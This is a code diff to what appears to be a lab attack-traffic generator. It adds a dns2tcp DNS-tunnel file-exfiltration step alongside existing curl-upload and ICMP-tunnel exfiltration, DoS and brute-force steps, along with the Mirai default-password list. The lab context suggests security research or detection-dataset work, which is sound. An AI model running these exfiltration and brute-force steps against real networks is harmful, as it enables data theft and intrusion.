@@ -31,6 +31,7 @@ TOOLS = {
     "medusa": "medusa", "ncrack": "ncrack", "snmpd": "snmpd", "chronyd": "chrony",
     "arp-scan": "arp-scan", "ab": "apache2-utils", "slowhttptest": "slowhttptest", "patator": "patator",
     "ettercap": "ettercap-text-only", "arping": "arping", "ptunnel-ng": "ptunnel-ng",
+    "dns2tcpc": "dns2tcp", "dns2tcpd": "dns2tcp",
 }
 
 #: tools each family needs (the lab itself always needs the first group)
@@ -42,11 +43,11 @@ FAMILY_TOOLS = {
     "dos": ("hping3", "nping", "ab", "slowhttptest"),
     "bruteforce": ("hydra", "mosquitto_pub", "medusa", "ncrack", "patator"),
     "spoofing": ("arpspoof", "dnsspoof", "ettercap", "arping", "dnsmasq"),
-    "exfiltration": ("dig", "curl", "hping3", "iodine", "iodined", "ptunnel-ng"),
+    "exfiltration": ("dig", "curl", "hping3", "iodine", "iodined", "ptunnel-ng", "dns2tcpc", "dns2tcpd"),
 }
 #: tools whose steps are dropped (with a note) when they are missing; the rest are required
 OPTIONAL = ("masscan", "iodine", "iodined", "arp-scan", "ab", "slowhttptest", "medusa", "ncrack", "patator",
-            "ettercap", "arping", "ptunnel-ng")
+            "ettercap", "arping", "ptunnel-ng", "dns2tcpc", "dns2tcpd")
 
 #: default credentials of the Mirai family, the classic IoT guess list
 MIRAI_PASSWORDS = ("admin", "root", "12345", "123456", "xc3511", "vizxv", "888888", "xmhdipc", "default",
@@ -310,6 +311,10 @@ def _exfiltration(ctx: LabContext, rng: random.Random) -> list[Step]:
                "--data-binary", f"@{loot}", f"https://{ctx.ips.get('cloud', sink)}/upload"]], weight=1.5),
         Step("ICMP tunnel (hping3 -E payload)", "exfiltration",
              [_hping(ctx, "-1", "-E", str(small), "-d", "1000", "-c", "200", "-i", "u20000", sink)]),
+        Step("dns2tcp TCP-over-DNS tunnel via the lab resolver (HTTP upload through it)", "exfiltration",
+             [helper("dns2tcp-exfil", "--resolver", ctx.ip("gw"), "--zone", "d.lab", "--key",
+                     ctx.creds.get("dns2tcp", "dns2tcp"), "--file", str(small), "--qtype", rng.choice(["TXT", "KEY"]))],
+             min_seconds=20.0, dns_suffix="d.lab", needs=("dns2tcpc", "curl")),
         Step("ICMP tunnel (ptunnel-ng, HTTP upload through it)", "exfiltration",
              [helper("ptunnel-exfil", "--proxy", sink, "--file", str(small), "--dest", sink, "--dest-port", "8080")],
              min_seconds=12.0, needs=("ptunnel-ng", "curl")),
